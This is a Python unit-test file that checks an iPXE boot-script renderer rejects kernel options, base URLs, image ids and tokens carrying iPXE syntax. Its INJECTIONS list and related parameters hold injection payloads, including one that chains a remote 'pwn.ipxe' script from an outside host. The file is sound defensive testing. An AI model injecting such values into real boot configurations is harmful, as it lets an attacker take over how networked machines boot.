"""The iPXE renderer refuses every value that is not a plain word or kernel option
(issue 11: an imported image's kernel_cmdline chained a script from elsewhere)."""

from __future__ import annotations

import pytest

from livestrap.kernelopts import MAX_OPTIONS, bad_kernel_options, check_kernel_options
from livestrap.master.ipxe import check_base_url, kernel_arguments, render_boot_script

pytestmark = [pytest.mark.unit, pytest.mark.security]

BASE = "http://10.0.0.1:8080"
INJECTIONS = [
    "console=ttyS0,115200n8 && chain http://198.51.100.1/pwn.ipxe #",
    "a=1||chain",
    "a=1&&b",
    "a=1;b",
    "a=#",
    "a=${net0/mac}",
    "a=$x",
    "quiet\n",
    "a=1\nchain http://x/",
    'a="x"',
    "a='x'",
    "a=\\x",
    "a={x}",
    "a=`x`",
    "a=x y",
    "a=\x00",
    "=x",
    "x" * 257,
]


@pytest.mark.parametrize("option", INJECTIONS)
def test_renderer_refuses_non_options(option: str) -> None:
    with pytest.raises(ValueError, match="kernel option"):
        render_boot_script(BASE, "img-1", "tok", [option])
    assert bad_kernel_options([option]) == [option]


@pytest.mark.parametrize(
    "option",
    [
        "quiet",
        "console=ttyS0,115200n8",
        "net.ifnames=0",
        "root=UUID=0a1b-2c3d",
        "init=/bin/sh",
        "modprobe.blacklist=nouveau,radeon",
        "crashkernel=256M@16M",
        "acpi_osi=!Linux",
        "systemd.unit=rescue.target",
        "isolcpus=1-3",
        "x=",
    ],
)
def test_real_kernel_options_accepted(option: str) -> None:
    assert check_kernel_options([option]) == [option]


def test_option_count_and_length_bounded() -> None:
    with pytest.raises(ValueError, match="at most"):
        check_kernel_options(["quiet"] * (MAX_OPTIONS + 1))
    with pytest.raises(ValueError, match="bytes"):
        check_kernel_options([f"o{i}=" + "x" * 200 for i in range(6)])


def test_exact_kernel_line_with_extras() -> None:
    script = render_boot_script(BASE, "img-1", "tok", ["quiet", "acpi_osi=!Linux"])
    assert script.splitlines()[1] == (
        "kernel http://10.0.0.1:8080/boot/images/img-1/vmlinuz?mac=${net0/mac}"
        " initrd=initrd.img boot=live"
        " fetch=http://10.0.0.1:8080/boot/m/${net0/mac:hexhyp}/images/img-1/root.squashfs"
        " livestrap.url=http://10.0.0.1:8080 livestrap.token=tok livestrap.image=img-1"
        " BOOTIF=01-${net0/mac:hexhyp} livestrap.boot=ipxe console=tty0 console=ttyS0,115200n8"
        " quiet acpi_osi=!Linux || goto failed"
    )


@pytest.mark.parametrize(
    "base",
    ["http://x\n", "http://x;chain", "http://x#", "http://x&&a", "http://x||a", 'http://x"'],
)
def test_base_url_with_ipxe_syntax_refused(base: str) -> None:
    """The base URL may come from the Host header of an anonymous request."""
    with pytest.raises(ValueError, match="base URL"):
        check_base_url(base)


@pytest.mark.parametrize("word", ["img\n", "img;x", "img#", "a$b", "a|b", "a&b", "a'b"])
def test_image_id_and_token_are_plain_words(word: str) -> None:
    with pytest.raises(ValueError, match="image id"):
        kernel_arguments(BASE, word, "tok")
    with pytest.raises(ValueError, match="token"):
        kernel_arguments(BASE, "img", word)
